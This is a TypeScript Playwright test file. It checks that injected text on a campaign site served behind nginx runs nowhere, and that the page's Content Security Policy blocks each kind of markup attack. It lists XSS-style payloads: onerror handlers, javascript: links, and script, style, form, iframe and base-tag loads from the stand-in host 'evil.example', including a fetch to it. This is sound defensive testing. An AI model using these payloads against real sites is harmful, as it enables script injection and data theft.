import type { Page, Route } from "playwright-core";
import { describe, expect } from "vitest";
import { watchNetworkRequests } from "../../../scripts/shots/watch-network-requests.ts";
import { listBlockKinds } from "../../../src/blocks/campaign-context.ts";
import { behindNginx, originOfWorker } from "../../support/browser/browser.ts";
import { nginxHere } from "../../support/browser/nginx.ts";
import { changedBuild } from "../../support/browser/nginx-pages.ts";
import { withAllKinds } from "../../support/campaigns/all-kinds.ts";
import { note } from "../../support/campaigns/note.ts";
import { site } from "../../support/campaigns/site.ts";
import { injectPublished } from "../../support/injection/inject-published.ts";
import { ELEMENT, EVIL_HOST, MARKUP, RAN, spoilAnswer } from "../../support/injection/payloads.ts";

const inject = (text: string) => text + MARKUP;

const test = behindNginx((place) => changedBuild(place, (page) => injectPublished(page, inject)));

/** Runs before a page's scripts: collects violations of the page's policy. */
const KEEP_VIOLATIONS = `window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(event.effectiveDirective + " stops " + (event.blockedURI || event.sample)));`;

/** Number of buttons to tap on each page. */
const TAPS = 2;

/**
 * Returns pages that together contain all block types, those with many first, since a page costs a second of CPU time. All
 * pages are tested without a browser in campaigns/injection.
 */
function pagesToOpen(): string[] {
  const all = [...site.pages()].map(([key, { published }]) => ({
    route: published.campaign.route ?? `/${key}`,
    kinds: listBlockKinds(published.campaign),
  }));
  return withAllKinds(all).map(({ route }) => route);
}

/**
 * Returns the effects of the payloads on an open page. A page that is being left cannot be evaluated; its violations are
 * still on the console, which fails the test.
 */
function remainsOn(page: Page): Promise<unknown> {
  const remains = page.evaluate(
    ([element, ran]) => ({
      ran: ran in window,
      elements: document.querySelectorAll(
        `${element}, iframe, object, embed, base, [onerror], [onload], [onclick]`,
      ).length,
      violations: (window as unknown as { violations: string[] }).violations,
    }),
    [ELEMENT, RAN] as const,
  );
  return remains.catch(() => "being left");
}

const nothing = { ran: false, elements: 0, violations: [] };

describe.skipIf(!nginxHere.isThere)("behind nginx (skipped if it is not installed)", () => {
  test("injected texts run on no page, cause no request and no violation", {
    tags: "nightly",
    timeout: 600_000,
  }, async ({ open }) => {
    const asked = new Set<string>();
    const page = await open({
      path: "/performanceSystem?sandbox=off",
      before: KEEP_VIOLATIONS,
      // Pages repeat refused calls, and Chromium reports them.
      expectedProblems: [/status of 4\d\d/],
    });
    page.on("request", (request) => asked.add(new URL(request.url()).hostname));
    await page.route("**/prod-api/**", spoilRoute);
    // Navigations to other sites have no effect, because a missing site would replace the page at an unknown time.
    await page.route(
      ({ hostname }) => hostname !== "127.0.0.1",
      (route) => (route.request().isNavigationRequest() ? route.fulfill({ status: 204 }) : route.continue()),
    );
    const quiet = watchNetworkRequests(page);
    let shown = 0;
    const routes = pagesToOpen();
    for (const route of routes) {
      const address = `${route}?token=old-user&phoneType=ios&sandbox=off&host=www.mall.example`;
      await page.goto(address);
      await page.locator(".page").first().waitFor();
      await quiet();
      await expect.poll(() => remainsOn(page), { message: route }).toEqual(nothing);
      if ((await page.locator("body").textContent())?.includes(`<${ELEMENT}>`)) shown++;
      const buttons = page.locator("button:visible");
      for (let i = 0; i < Math.min(TAPS, await buttons.count()); i++) {
        await buttons.nth(i).dispatchEvent("click");
        await expect.poll(() => remainsOn(page), { message: `${route}, button ${i}` }).toEqual(nothing);
        if (!page.url().includes(`${route}?`)) await page.goto(address);
      }
    }
    note(`pages opened behind nginx with something injected: ${routes.length}`);
    expect(shown).toBe(routes.length);
    expect([...asked]).not.toContain(EVIL_HOST);
  });

  /** The harm that a text could do as markup, as a script, and the directive that stops it. */
  const deeds: [name: string, deed: string, stoppedBy: string][] = [
    ["run a script", 'add("script", { textContent: "window.injectionRan = 1" })', "script-src-elem"],
    ["load a script", 'add("script", { src: "https://evil.example/a.js" })', "script-src-elem"],
    ["run at an event", 'put("<img src=/x onerror=window.injectionRan=1>")', "script-src-attr"],
    [
      "run by an address",
      'add("a", { href: "javascript:window.injectionRan=1" }).click()',
      "script-src-elem",
    ],
    // Not synchronously, because the test's own evaluation may run text as code.
    ["run a text", 'requestAnimationFrame(() => new Function("window.injectionRan = 1")())', "script-src"],
    ["style the page", 'add("style", { textContent: "body { color: red }" })', "style-src-elem"],
    ["style an element", 'put("<p style=color:red>")', "style-src-attr"],
    [
      "load a style",
      'add("link", { rel: "stylesheet", href: "https://evil.example/a.css" })',
      "style-src-elem",
    ],
    ["load a picture", 'add("img", { src: "https://evil.example/a.png" })', "img-src"],
    ["say something", 'fetch("https://evil.example/").catch(() => {})', "connect-src"],
    ["send a form", 'add("form", { action: "https://evil.example/" }).submit()', "form-action"],
    ["frame a page", 'add("iframe", { src: "https://evil.example/" })', "frame-src"],
    ["play something", 'add("video", { src: "https://evil.example/a.mp4" })', "media-src"],
    ["plug something in", 'add("object", { data: "https://evil.example/a" })', "object-src"],
    ["start a worker", 'try { new Worker("/assets/a.js") } catch {}', "worker-src"],
    ["move all addresses", 'add("base", { href: "https://evil.example/" })', "base-uri"],
  ];

  test("the policy stops all harm that a text could do as markup", async ({ open }) => {
    const page = await open({
      path: "/performanceSystem?sandbox=off",
      before: KEEP_VIOLATIONS,
      expectedProblems: [/evil\.example|Content Security Policy|\/x\b/i],
    });
    await page.locator("h1").waitFor();
    await page.evaluate(`
      window.add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
      window.put = (html) => { add("div", {}).innerHTML = html; };`);
    for (const [name, deed, stoppedBy] of deeds) {
      await page.evaluate(`window.violations.splice(0); ${deed};undefined`);
      await expect
        .poll(() => page.evaluate("window.violations.map((text) => text.split(' ')[0])"), { message: name })
        .toContain(stoppedBy);
    }
    expect(await page.evaluate((ran) => ran in window, RAN)).toBe(false);
  });
});

/** Fetches from the sandbox itself, since Playwright's client does not trust the test's certificate. */
async function spoilRoute(route: Route): Promise<void> {
  const { pathname, search } = new URL(route.request().url());
  const response = await route.fetch({ url: originOfWorker() + pathname + search });
  await route.fulfill({ response, body: spoilAnswer(await response.text(), inject) });
}
